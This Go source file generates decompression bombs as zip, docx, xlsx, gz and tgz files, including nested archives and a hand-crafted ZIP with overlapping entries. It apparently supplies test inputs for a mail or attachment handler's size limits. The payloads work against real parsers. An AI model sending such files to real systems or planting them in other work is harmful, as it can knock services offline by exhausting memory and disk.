package main

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strings"
)

const huge = 288 << 20 // bytes, more than anybody sends by mail

// bomb is a small file that becomes a big one when it is opened, by its kind.
func bomb(kind string) ([]byte, error) {
	switch kind {
	case "zip":
		return bigZip("list.csv", zeros())
	case "zip-text":
		return bigZip("log.txt", again("2026-11-24 10:00:00 INFO 処理を開始しました\r\n"))
	case "docx":
		return bigZip("word/document.xml", zeros())
	case "xlsx":
		return bigZip("xl/worksheets/sheet1.xml", again("<c><v>0</v></c>"))
	case "gz":
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		if _, err := io.Copy(w, zeros()); err != nil {
			return nil, err
		}
		err := w.Close()
		return b.Bytes(), err
	case "tgz":
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		if err := w.WriteHeader(&tar.Header{Name: "disk.img", Mode: 0o644, Size: huge}); err != nil {
			return nil, err
		}
		if _, err := io.Copy(w, zeros()); err != nil {
			return nil, err
		}
		if err := w.Close(); err != nil {
			return nil, err
		}
		err := z.Close()
		return b.Bytes(), err
	case "nested":
		return nestedZip()
	case "overlap":
		return overlapping(60), nil
	}
	return nil, fmt.Errorf("no bomb of the kind %q is known", kind)
}

// repeat is a text without end.
type repeat struct{ text, left []byte }

func (r *repeat) Read(p []byte) (int, error) {
	if len(r.left) == 0 {
		r.left = r.text
	}
	n := copy(p, r.left)
	r.left = r.left[n:]
	return n, nil
}

func again(text string) io.Reader {
	return io.LimitReader(&repeat{text: bytes.Repeat([]byte(text), 64<<10/len(text))}, huge)
}

func zeros() io.Reader { return again("\x00") }

func bigZip(name string, content io.Reader) ([]byte, error) {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	if strings.Contains(name, "/") {
		f, err := w.Create("[Content_Types].xml")
		if err != nil {
			return nil, err
		}
		if _, err := f.Write([]byte(head + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)); err != nil {
			return nil, err
		}
	}
	f, err := w.Create(name)
	if err != nil {
		return nil, err
	}
	if _, err := io.Copy(f, content); err != nil {
		return nil, err
	}
	err = w.Close()
	return b.Bytes(), err
}

// nestedZip is 40 archives of one file of 16 MiB each, all in one.
func nestedZip() ([]byte, error) {
	inner, err := inZip([]member{{"0.dat", make([]byte, 16<<20)}})
	if err != nil {
		return nil, err
	}
	var all []member
	for n := range 40 {
		all = append(all, member{fmt.Sprintf("part%02d.zip", n), inner})
	}
	return inZip(all)
}

// overlapping is a ZIP whose directory names one compressed file of 16 MiB many times.
func overlapping(times int) []byte {
	one, err := inZip([]member{{"a", make([]byte, 16<<20)}})
	if err != nil {
		panic(err) // in memory
	}
	r, err := zip.NewReader(bytes.NewReader(one), int64(len(one)))
	if err != nil {
		panic(err)
	}
	f := r.File[0]
	offset, err := f.DataOffset()
	if err != nil {
		panic(err)
	}
	data := one[offset : offset+int64(f.CompressedSize64)] //nolint:gosec // the files here are small
	le := binary.LittleEndian
	fields := func(b []byte) []byte { // from the version needed to the length of the name
		b = append(b, 20, 0, 0, 0, 8, 0, 0, 0, 0x78, 0x5b)
		b = le.AppendUint32(b, crc32.ChecksumIEEE(make([]byte, 16<<20)))
		b = le.AppendUint32(b, uint32(len(data))) //nolint:gosec // the files here are small
		b = le.AppendUint32(b, 16<<20)
		return append(b, 4, 0, 0, 0)
	}
	out := append(fields([]byte("PK\x03\x04")), "0000"...)
	out = append(out, data...)
	at := len(out)
	for n := range times {
		out = fields(append(out, "PK\x01\x02\x14\x00"...))
		out = append(out, make([]byte, 14)...)
		out = append(out, fmt.Sprintf("%04d", n)...)
	}
	size := len(out) - at
	out = append(out, "PK\x05\x06\x00\x00\x00\x00"...)
	out = le.AppendUint16(out, uint16(times)) //nolint:gosec // the files here are small
	out = le.AppendUint16(out, uint16(times)) //nolint:gosec // the files here are small
	out = le.AppendUint32(out, uint32(size))  //nolint:gosec // the files here are small
	out = le.AppendUint32(out, uint32(at))    //nolint:gosec // the files here are small
	return append(out, 0, 0)
}
